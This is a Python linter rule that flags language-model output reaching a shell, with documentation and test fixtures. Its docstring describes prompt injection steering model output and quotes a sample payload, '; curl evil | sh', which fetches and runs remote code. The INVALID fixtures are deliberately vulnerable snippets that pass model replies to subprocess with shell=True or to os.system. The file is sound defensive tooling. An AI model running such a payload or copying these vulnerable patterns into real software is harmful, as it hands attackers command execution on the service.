from __future__ import annotations

import libcst as cst

from ailint.dataflow import LlmNeedles, MODEL_OUTPUT, Flow
from ailint.rule import Invalid, Valid
from ailint.types import Severity

from ailint_rules.support.flows import FlowRule, first_reaching, is_true, keyword, positional, report_flow

_CLIENT = "import subprocess\nfrom openai import OpenAI\nclient = OpenAI(timeout=20)\n\n"
_ALWAYS_SHELL = frozenset({"os.system", "os.popen", "subprocess.getoutput", "subprocess.getstatusoutput",
                           "asyncio.create_subprocess_shell", "commands.getoutput", "os.popen2", "os.popen3"})
_SUBPROCESS = frozenset({"subprocess.run", "subprocess.call", "subprocess.check_call", "subprocess.check_output",
                         "subprocess.Popen", "asyncio.create_subprocess_exec", "os.execvp", "os.execv", "os.spawnvp",
                         "pexpect.spawn", "pexpect.run"})


class LlmOutputToShell(FlowRule):
    """
    ## What it does
    Flags model output reaching a shell or choosing a program to run: the command of
    `os.system`, `os.popen`, `subprocess.getoutput`, `asyncio.create_subprocess_shell`, and of
    `subprocess.run/call/check_call/check_output/Popen` with `shell=True`; and, without a shell,
    an argument list that comes from model output as a whole (`subprocess.run(reply.split())`,
    `shlex.split(reply)`) or whose first element (the program) is model output.

    A model-written *argument* in a list whose program is fixed (`["git", "log", reply]`) is not
    flagged: without a shell it cannot start another program (it may still be an option
    injection; validate it).

    ## Why is this bad?
    Model output is steerable by anyone who can put text in front of the model (prompt
    injection through user input, documents, web pages, tool results). Handing it to a shell
    lets that text run any command with the service's permissions: `; curl evil | sh`.

    ## Example
    ```python
    reply = client.chat.completions.create(model="gpt-4o", messages=messages)
    subprocess.run(reply.choices[0].message.content, shell=True)
    ```

    ## Use instead
    Let the model choose from a fixed set of actions (a tool call with an enum), map each to a
    fixed argument list, and validate arguments:
    ```python
    action = ALLOWED[reply_action]          # KeyError for anything else
    subprocess.run(["git", action, "--", validated_path], check=True)
    ```

    ## Options
    None.

    ## References
    - OWASP Top 10 for LLM Applications, LLM05 Improper Output Handling:
      https://genai.owasp.org/llmrisk/llm052025-improper-output-handling/
    - CWE-78, OS command injection: https://cwe.mitre.org/data/definitions/78.html
    - Python `subprocess`, security considerations:
      https://docs.python.org/3/library/subprocess.html#security-considerations
    """

    code = "AIL702"
    name = "llm-output-to-shell"
    severity = Severity.ERROR
    security_severity = 9.3
    needles = LlmNeedles()
    requires_sdk_import = "llm"  # reports on LLM calls only

    VALID = [
        Valid(_CLIENT + "def branch(q):\n"
              "    r = client.chat.completions.create(model='m', messages=[{'role': 'user', 'content': q}])\n"
              "    name = r.choices[0].message.content\n"
              "    subprocess.run(['git', 'checkout', '-b', name], check=True)\n"),
        Valid(_CLIENT + "import os\n\ndef clean():\n    os.system('rm -rf /tmp/cache')\n"),
        Valid(_CLIENT + "import shlex\n\ndef run(q):\n"
              "    r = client.chat.completions.create(model='m', messages=[{'role': 'user', 'content': q}])\n"
              "    subprocess.run('ls ' + shlex.quote(r.choices[0].message.content), shell=True)\n"),
    ]
    INVALID = [
        Invalid(_CLIENT + "def run(q):\n"
                "    r = client.chat.completions.create(model='m', messages=[{'role': 'user', 'content': q}])\n"
                "    cmd = r.choices[0].message.content\n    subprocess.run(cmd, shell=True)\n",
                lines=[8], message="reaches the shell command of subprocess.run"),
        Invalid(_CLIENT + "import os\n\ndef run(q):\n"
                "    r = client.responses.create(model='m', input=q)\n    os.system(f'bash -c \"{r.output_text}\"')\n",
                lines=[9], message="os.system"),
        Invalid(_CLIENT + "def run(q):\n"
                "    r = client.chat.completions.create(model='m', messages=[{'role': 'user', 'content': q}])\n"
                "    subprocess.run(r.choices[0].message.content.split())\n",
                lines=[7], message="program"),
    ]

    def end_file(self) -> None:
        flow = Flow.of(self.file)
        imports = self.file.imports
        for site in flow.index.calls:
            call = site.node
            qualified = imports.qualify(call.func) or ""
            if qualified in _ALWAYS_SHELL:
                command = positional(call, 0, "cmd") or positional(call, 0, "command")
                what = f"the shell command of {qualified}()"
            elif qualified in _SUBPROCESS:
                command = positional(call, 0, "args")
                if command is None:
                    continue
                if is_true(keyword(call, "shell")):
                    what = f"the shell command of {qualified}(shell=True)"
                elif isinstance(command, (cst.List, cst.Tuple)):
                    if not command.elements or isinstance(command.elements[0], cst.StarredElement):
                        continue
                    command = command.elements[0].value
                    what = f"the program run by {qualified}()"
                else:
                    what = f"the argument list (and so the program) of {qualified}()"
            else:
                continue
            if command is None:
                continue
            taint = first_reaching(flow, call, command, (MODEL_OUTPUT,))
            if taint is not None:
                report_flow(self, call, taint, what,
                            "map the model's choice to a fixed argument list and validate every argument")
